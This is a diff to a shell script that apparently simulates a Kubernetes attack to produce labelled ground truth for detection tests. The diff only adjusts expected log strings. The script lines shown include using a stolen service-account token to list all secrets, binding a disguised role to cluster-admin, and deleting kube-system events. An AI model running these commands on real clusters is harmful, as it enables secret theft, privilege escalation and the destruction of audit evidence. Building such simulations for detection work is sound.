@@ -29,7 +29,7 @@ k() { timeout 20 kubectl $API --token="$TOKEN" "$@"; }
 sleep 3
 k auth can-i --list >/dev/null 2>&1
 for what in nodes configmaps serviceaccounts deployments daemonsets networkpolicies ingresses leases; do k get $what -A >/dev/null 2>&1; done
-truth 2d "refused at eight kinds" user "" system:serviceaccount:shop:web "forbidden"
+truth 2d "refused at eight kinds" user "" system:serviceaccount:shop:web "403 Forbidden"
 sleep 2
 k get pods -A >/dev/null && k get secrets -A >/dev/null
 truth 2e "all secrets are listed with the stolen token" user "" system:serviceaccount:shop:web "secrets"
@@ -93,6 +93,6 @@ k create clusterrolebinding system:metrics-relay --clusterrole=cluster-admin --s
 truth 5c "a cluster role binding to cluster-admin" clusterrolebinding "" system:metrics-relay "cluster-admin"
 sleep 3
 k -n kube-system delete events --all >/dev/null
-truth 5d "the events are deleted" events kube-system "" "deletecollection"
+truth 5d "the events are deleted" events kube-system "" "delete events kube-system/"
 echo ATTACK DONE
 wait
